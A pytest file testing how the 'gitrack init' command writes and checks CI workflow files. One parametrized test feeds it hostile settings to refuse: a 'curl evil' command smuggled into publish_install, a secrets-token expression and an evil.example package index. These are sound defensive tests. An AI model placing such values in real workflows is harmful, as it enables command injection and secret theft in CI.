"""``gitrack init``: what it writes, what it leaves alone, and what a checker says of it."""

import io
import shutil
import subprocess
import sys
import tomllib
from pathlib import Path

import pytest
import yaml

from gitrack.resources import data_dir

ROOT = Path(__file__).parents[2]
WORKFLOWS = ".github/workflows"
BRANCH = data_dir("templates") / "workflows" / "branch"
OWN = ".github/workflows/gitrack.yml"


@pytest.fixture
def init(repository, say):
    """Run ``gitrack init`` for GitHub unless told otherwise."""

    def run(*words, host="github"):
        return say("init", *(("--host", host) if host else ()), *words)

    return run


def test_nothing_is_written_unasked(init, repository, monkeypatch):
    monkeypatch.setattr(sys, "stdin", io.StringIO())
    status, out, _ = init()
    assert status == 0
    assert "+name: gitrack publish" in out
    assert "gitrack init --yes" in out
    assert sorted(path.name for path in repository.iterdir()) == [".git", "train.py"]


def test_a_second_call_finds_all_up_to_date(init, repository):
    assert init("--check")[0] == 1
    assert init("--yes")[0] == 0
    assert sorted(path.name for path in (repository / WORKFLOWS).iterdir()) == [
        f"gitrack-{name}.yml" for name in ("comment", "merge", "publish", "review")
    ]
    assert init("--check", host=None) == (0, "all is up to date\n", "")


def test_nothing_is_public_unless_asked_for(init, repository):
    init("--yes")
    assert tomllib.loads((repository / "gitrack.toml").read_text())["publish"] == "artifact"
    written = "".join(path.read_text() for path in (repository / WORKFLOWS).iterdir())
    assert "pages: write" not in written
    assert "deploy-pages" not in written
    init("--yes", "--publish", "pages")
    assert "deploy-pages" in (repository / WORKFLOWS / "gitrack-publish.yml").read_text()
    init("--yes", "--publish", "none")
    assert not (repository / WORKFLOWS / "gitrack-publish.yml").exists()


def test_a_setting_is_changed_and_all_else_stays(init, repository):
    settings = repository / "gitrack.toml"
    before = '# mine\nproject = "digits"\npublish = "none" # for now\n\n[review]\nalpha = 0.1\n'
    settings.write_text(before)
    init("--yes", "--publish", "pages")
    assert settings.read_text() == before.replace('"none" # for now', '"pages"')
    settings.write_text('project = "digits"\n[review]\nalpha = 0.1')
    init("--yes", "--publish", "pages")
    assert settings.read_text() == 'project = "digits"\npublish = "pages"\n[review]\nalpha = 0.1'


def test_a_setting_that_is_no_line_is_left_to_its_writer(init, repository):
    text = 'notes = """\npublish = "none"\n"""\npublish = "none"\n'
    (repository / "gitrack.toml").write_text(text)
    status, _, err = init("--yes", "--publish", "pages")
    assert (status, err.count("\n")) == (1, 1)
    assert (repository / "gitrack.toml").read_text() == text


def test_a_file_that_was_changed_by_hand_stays(init, repository):
    init("--yes")
    path = repository / WORKFLOWS / "gitrack-publish.yml"
    mine = path.read_text().replace("timeout-minutes: 60", "timeout-minutes: 5")
    path.write_text(mine)
    assert init("--check")[0] == 0  # nothing newer would be made
    status, out, err = init("--yes", "--publish", "pages")
    assert status == 0
    assert "changed by hand and stays" in err
    assert "-    timeout-minutes: 5" in out
    assert path.read_text() == mine
    assert init("--check")[0] == 1
    init("--yes", "--force")
    assert "timeout-minutes: 60" in path.read_text()


def test_a_file_of_somebody_elses_stays(init, repository):
    path = repository / WORKFLOWS / "gitrack-review.yml"
    path.parent.mkdir(parents=True)
    path.write_text("name: mine\n")
    assert "stays" in init("--yes")[2]
    assert path.read_text() == "name: mine\n"


def test_line_ends_of_windows_are_no_change(init, repository):
    init("--yes")
    for path in (repository / WORKFLOWS).iterdir():
        path.write_bytes(path.read_bytes().replace(b"\n", b"\r\n"))
    assert init("--check")[0] == 0


def test_a_link_is_not_followed(init, repository, clean):
    (clean / "outside").mkdir()
    (repository / ".github").symlink_to(clean / "outside")
    status, _, err = init("--yes")
    assert (status, err.count("\n")) == (1, 1)
    assert "is a link" in err
    assert list((clean / "outside").iterdir()) == []


@pytest.mark.parametrize(
    ("line", "named"),
    [
        ('publish = "everywhere"', "publish"),
        ('publish_install = "x\\" && curl evil"', "publish_install"),
        ('publish_install = "${{ secrets.TOKEN }}"', "publish_install"),
        ('publish_install = "--index-url=https://evil.example x"', "publish_install"),
        ('publish_branch = "[main]"', "publish_branch"),
        ("publish = ", "gitrack.toml"),
    ],
)
def test_a_setting_that_has_no_place_in_a_workflow_is_refused(init, repository, line, named):
    (repository / "gitrack.toml").write_text(f"{line}\n")
    status, out, err = init("--yes")
    assert (status, out, err.count("\n")) == (1, "", 1)
    assert named in err
    assert not (repository / ".github").exists()


@pytest.mark.parametrize(
    ("url", "host"),
    [
        ("git@github.com:ada/lab.git", "github"),
        ("https://gitlab.example.org/github/lab.git", "gitlab"),
        ("ssh://git@gitlab.com:22/ada/lab", "gitlab"),
        ("https://codeberg.org/github/lab", None),
    ],
)
def test_the_remote_tells_the_host(init, repository, git, monkeypatch, url, host):
    monkeypatch.setattr(sys, "stdin", io.StringIO())
    git(repository, "remote", "add", "origin", url)
    status, _, err = init("--yes", host=None)
    assert (status, "--host" in err) == ((0, False) if host else (1, True))
    assert (repository / ".gitlab-ci.yml").exists() == (host == "gitlab")


def test_the_default_branch_is_the_one_that_publishes(repository, git, init):
    git(repository, "branch", "-qm", "main", "trunk")
    init("--yes")
    publish = yaml.safe_load((repository / WORKFLOWS / "gitrack-publish.yml").read_text())
    assert publish[True]["push"]["branches"] == ["trunk"]  # YAML 1.1 reads `on` as true


def test_experiments_branches_get_a_workflow_of_their_own(init, repository, git, put_seeds):
    put_seeds(repository, "main", 0.9)
    assert OWN not in git(repository, "ls-tree", "-r", "--name-only", "experiments/main")
    init("--yes")
    assert (
        git(repository, "show", f"experiments/main:{OWN}")
        == (BRANCH / "github" / OWN).read_text().strip()
    )
    git(repository, "branch", "-D", "experiments/main")
    put_seeds(repository, "main", 0.9)  # a new branch begins with it
    assert OWN in git(repository, "ls-tree", "-r", "--name-only", "experiments/main")
    settings = repository / "gitrack.toml"
    settings.write_text(f"branch_workflow = false\n{settings.read_text()}")
    init("--yes")
    assert OWN not in git(repository, "ls-tree", "-r", "--name-only", "experiments/main")
    publish = yaml.safe_load((repository / WORKFLOWS / "gitrack-publish.yml").read_text())
    assert "schedule" in publish[True]


def test_a_broken_gitrack_toml_keeps_no_run_from_its_branch(repository, put_seeds, init, git):
    init("--yes")
    (repository / "gitrack.toml").write_text("publish = ")
    put_seeds(repository, "main", 0.9)
    assert "run.json" in git(repository, "ls-tree", "-r", "--name-only", "experiments/main")


def test_gitlab_includes_what_is_made_for_it(init, repository):
    init("--yes", host="gitlab")
    assert "local: .gitlab/gitrack.yml" in (repository / ".gitlab-ci.yml").read_text()
    (repository / ".gitlab-ci.yml").write_text("test: {script: [true]}\n")
    status, out, err = init("--yes", host="gitlab")
    assert "+  - local: .gitlab/gitrack.yml" in out
    assert "is yours" in err
    assert (repository / ".gitlab-ci.yml").read_text() == "test: {script: [true]}\n"
    assert status == 0


def test_outside_a_work_tree_there_is_nothing_to_write(clean, say, monkeypatch):
    monkeypatch.chdir(clean)
    status, _, err = say("init", "--host", "github", "--yes")
    assert (status, err.count("\n")) == (1, 1)


def checker(name):
    """Return a command that checks workflows, or skip."""
    beside = Path(sys.executable).with_name(name)
    found = str(beside) if beside.exists() else shutil.which(name)
    return found or pytest.skip(f"{name} is not installed: pip install {name}")


def checked(*words, cwd):
    done = subprocess.run(words, cwd=cwd, capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stdout + done.stderr


@pytest.mark.parametrize("extra", ["", "branch_workflow = false\n"])
@pytest.mark.parametrize("publish", ["artifact", "pages", "none"])
@pytest.mark.parametrize("host", ["github", "gitlab"])
def test_each_choice_is_valid_and_clean(init, repository, host, publish, extra):
    (repository / "gitrack.toml").write_text(f'publish = "{publish}"\n{extra}')
    init("--yes", host=host)
    schema = {"github": "vendor.github-workflows", "gitlab": "vendor.gitlab-ci"}[host]
    found = [*repository.glob(".github/workflows/*.yml"), *repository.glob(".gitlab/*.yml")]
    found += repository.glob(".gitlab-ci.yml")
    words = ["--data-transform", "gitlab-ci"] if host == "gitlab" else []
    checked(checker("check-jsonschema"), "--builtin-schema", schema, *words, *found, cwd=repository)
    if host == "github":
        checked(checker("zizmor"), "--offline", "--no-progress", ".github", cwd=repository)


def test_what_travels_is_valid_and_clean():
    check = (checker("check-jsonschema"), "--builtin-schema")
    own = BRANCH / "github" / OWN
    checked(*check, "vendor.github-workflows", own, cwd=ROOT)
    gitlab = ("--data-transform", "gitlab-ci", BRANCH / "gitlab" / ".gitlab-ci.yml")
    checked(*check, "vendor.gitlab-ci", *gitlab, cwd=ROOT)
    checked(checker("zizmor"), "--offline", "--no-progress", own, cwd=ROOT)


def test_our_own_workflows_are_valid_and_clean():
    folder = ROOT / ".github"
    if not folder.is_dir():
        pytest.skip("a source distribution has no workflows")
    workflows = sorted((folder / "workflows").glob("*.yml"))
    actions = sorted(folder.glob("actions/*/action.yml"))
    check = (checker("check-jsonschema"), "--builtin-schema")
    checked(*check, "vendor.github-workflows", *workflows, cwd=ROOT)
    checked(*check, "vendor.github-actions", *actions, cwd=ROOT)
    checked(checker("zizmor"), "--offline", "--no-progress", folder, cwd=ROOT)
